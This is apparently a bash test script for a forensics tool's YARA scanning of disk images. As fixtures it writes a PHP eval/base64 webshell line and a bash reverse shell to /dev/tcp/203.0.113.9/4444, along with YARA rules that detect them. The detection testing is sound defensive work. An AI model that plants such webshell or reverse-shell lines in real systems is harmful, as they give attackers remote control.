#!/usr/bin/env bash
# `kanshiki ingest CASE disk.img --yara RULES`: every live regular file of an image made by
# mke2fs -d scanned with libyara; matches compared with the yara CLI run on the same tree
# (-N: links not followed, -z: the same size limit).
source "$(dirname "$0")/../lib.sh"
command -v mke2fs >/dev/null || { skip mke2fs "e2fsprogs not installed"; exit 0; }
command -v yara >/dev/null || { skip yara_cli "the yara CLI (package yara) is not installed"; exit 0; }
T=$TMP/tree R=$TMP/rules
mkdir -p "$T/var/www/html/uploads" "$T/tmp/.x" "$T/etc" "$R"
echo '<?php eval(base64_decode($_POST["x"])); ?>' > "$T/var/www/html/uploads/a.php"
printf '#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n' > "$T/tmp/.x/r.sh"
printf 'plain text, nothing to see\n' > "$T/etc/motd"
ln -s ../var/www/html/uploads/a.php "$T/etc/link.php"
# larger than the limit given below, with a match inside: not scanned
python3 -c "import sys; sys.stdout.write('A' * 300000 + 'eval(base64_decode \$_POST')" > "$T/tmp/big.bin"
cat > "$R/web.yar" <<'Y'
rule php_eval : webshell php {
  meta:
    author = "kanshiki tests"
    score = 80
  strings:
    $a = "eval(base64_decode"
    $b = "$_POST"
  condition:
    all of them
}
Y
cat > "$R/shell.yara" <<'Y'
rule reverse_shell : shell {
  strings:
    $tcp = /\/dev\/tcp\/[0-9.]+\/[0-9]+/
  condition:
    $tcp
}
rule never_matches { condition: false }
Y
I=$TMP/disk.img
mke2fs -q -t ext4 -d "$T" "$I" 16M || { skip mke2fs_d "mke2fs -d failed"; exit 0; }
C=$TMP/case
expect_rc ingest_with_yara 0 "$KS" ingest "$C" "$I" --yara "$R" --yara-max-size 100K
cp "$TMP/.out" "$TMP/ingest.txt"
expect_grep yara_summary 'YARA \(3 rules\): [0-9]+ files scanned, 2 matches; 1 larger than 102400 bytes' "$TMP/ingest.txt"
# the oracle: yara on the tree, namespaces named like ours
yara -N -r -s -z 102400 "web.yar:$R/web.yar" "shell.yara:$R/shell.yara" "$T" > "$TMP/yara.txt"
want=$(python3 - "$T" "$TMP/yara.txt" <<'PY' | sort
import sys
tree, rule, path = sys.argv[1], None, None
for line in open(sys.argv[2]):
    line = line.rstrip("\n")
    if line.startswith("0x"):
        off, sid = line.split(":")[:2]
        print(path, rule, int(off, 16), sid)
    else:
        rule, p = line.split(" ", 1)
        path = p[len(tree):]
PY
)
got=$("$KS" query "$C" "SELECT path, rule, strings FROM yara_match" --format jsonl |
      jq -r '. as $r | ($r.strings | fromjson)[] | "\($r.path) \($r.rule) \(.offset) \(.id)"' | sort)
expect_eq matches_vs_yara_cli "$got" "$want"
expect_eq match_count "$(q "$C" "SELECT count(*) FROM yara_match")" "2"
expect_eq link_not_followed "$(q "$C" "SELECT count(*) FROM yara_match WHERE path LIKE '/etc/%'")" "0"
expect_eq meta_and_tags "$(q "$C" "SELECT tags || ' ' || json_extract(meta, '$.score') || ' ' || namespace FROM yara_match WHERE rule='php_eval'")" "webshell php 80 web.yar"
expect_eq inode_vs_debugfs "$(q "$C" "SELECT inode FROM yara_match WHERE rule='reverse_shell'")" \
  "$(debugfs -R 'stat /tmp/.x/r.sh' "$I" 2>/dev/null | sed -n 's/^Inode: \([0-9]*\).*/\1/p')"
expect_eq yara_event "$(q "$C" "SELECT action || ' ' || outcome || ' ' || time_desc FROM events WHERE target='/tmp/.x/r.sh' AND source='yara_match'")" \
  "yara_match reverse_shell modified"
# rules that do not compile: a usage error before anything is read
printf 'rule broken { condition: nosuch }\n' > "$TMP/bad.yar"
expect_rc bad_rules_usage_error 2 "$KS" ingest "$TMP/case2" "$I" --yara "$TMP/bad.yar"
expect_grep bad_rules_named "bad.yar:1" "$TMP/.out"
expect_rc bad_size_usage_error 2 "$KS" ingest "$TMP/case2" "$I" --yara "$R" --yara-max-size 12Q
expect_rc reingest_no_duplicates 0 "$KS" ingest -q "$C" "$I" --yara "$R"
expect_eq reingest_match_count "$(q "$C" "SELECT count(*) FROM yara_match")" "2"
# `kanshiki fs yara IMAGE --rules RULES`: the same matches without a case
"$KS" fs yara "$I" --rules "$R" --max-size 102400 > "$TMP/fsyara.txt" 2> "$TMP/fsyara.err"
expect_eq fs_yara_vs_yara_cli "$(cut -d' ' -f1,2 "$TMP/fsyara.txt" | sort)" \
  "$(grep -v '^0x' "$TMP/yara.txt" | sed "s| $T| |" | sort)"
expect_grep fs_yara_summary '2 matches; 1 files larger than 102400' "$TMP/fsyara.err"
expect_rc fs_yara_needs_rules 2 "$KS" fs yara "$I"
